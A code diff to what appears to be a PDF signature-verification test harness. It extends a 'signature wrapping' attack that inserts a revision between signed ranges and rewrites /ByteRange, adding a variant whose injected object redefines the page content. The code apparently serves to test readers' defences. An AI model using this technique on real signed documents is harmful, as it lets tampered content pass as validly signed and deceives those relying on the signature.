@@ -592,8 +592,16 @@ export const ATTACKS: Attack[] = [
   {
     family: 'signature wrapping',
     name: 'second signed range moved behind injected objects (/ByteRange rewritten)',
+    changesFirstPageForQpdf: false,
     apply(pdf) {
-      return wrapSignature(pdf);
+      return wrapSignature(pdf, 999_990);
+    },
+  },
+  {
+    family: 'signature wrapping',
+    name: 'the injected bytes redefine the page content (readers that rebuild the shifted xref show it)',
+    apply(pdf, reader) {
+      return wrapSignature(pdf, reader.facts(pdf).contents[0]!);
     },
   },
 ];
@@ -612,10 +620,10 @@ export function lastByteRange(pdf: Buffer): { values: number[]; start: number; e
  * Signature wrapping: keep the signed bytes, but insert a malicious revision between /Contents and
  * the second signed range and rewrite /ByteRange (same width) so it still names the moved bytes.
  */
-function wrapSignature(pdf: Buffer): Buffer {
+function wrapSignature(pdf: Buffer, injectedNum: number): Buffer {
   const { values, start, end } = lastByteRange(pdf);
   const [, len1, off2, len2] = values as [number, number, number, number];
-  const injected = Buffer.from(`\n999990 0 obj\n${voidStream()}\nendobj\n`, 'latin1');
+  const injected = Buffer.from(`\n${injectedNum} 0 obj\n${voidStream()}\nendobj\n`, 'latin1');
   const moved = off2 + injected.length;
   const text = `[0 ${len1} ${moved} ${len2}]`;
   const width = end - start;
